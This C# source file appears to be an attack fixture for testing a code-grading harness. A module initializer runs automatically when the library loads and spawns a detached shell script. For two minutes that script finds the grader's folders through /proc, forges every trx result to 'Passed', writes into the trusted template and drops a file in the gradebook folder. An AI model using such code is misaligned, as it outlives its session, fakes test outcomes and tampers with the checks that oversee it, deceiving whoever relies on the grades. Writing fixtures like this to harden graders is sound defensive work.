using System.Diagnostics;
using System.Runtime.CompilerServices;

namespace Kata.Exercises;

/// <summary>
/// Attack: a process left behind, started as soon as Kata.dll loads, that outlives the run for two minutes. It looks
/// through every process's command line for the grader's folders, and on each round forges every trx file of a results
/// folder (each outcome "Passed") and writes into the trusted template and the gradebook's folder.
/// </summary>
internal static class LeftBehind
{
    private const string Script = """
        folders() {
          for process in /proc/[0-9]*; do
            tr '\0' '\n' < "$process/cmdline" 2>/dev/null | grep -A1 -x -- "$1" | tail -n 1 |
              while read -r folder; do (cd "$process/cwd" 2>/dev/null && cd "$folder" 2>/dev/null && pwd -P); done
          done | sort -u
        }
        round=0
        while [ $round -lt 600 ]; do
          for results in $(folders --results-directory); do
            for trx in "$results"/*.trx; do [ -f "$trx" ] && sed -i 's/outcome="[A-Za-z]*"/outcome="Passed"/g' "$trx"; done
          done
          for template in $(folders --template); do echo left-behind >> "$template/exercises.json"; done
          for out in $(folders --out); do echo left-behind > "$out/LEFT-BEHIND"; done
          round=$((round + 1))
          sleep 0.2
        done
        """;

    [ModuleInitializer]
    internal static void Leave()
    {
        var start = new ProcessStartInfo("/bin/sh") { UseShellExecute = false };
        foreach (var argument in (string[])["-c", Script, "kata-attack-left-behind"])
        {
            start.ArgumentList.Add(argument);
        }

        Process.Start(start);
    }
}
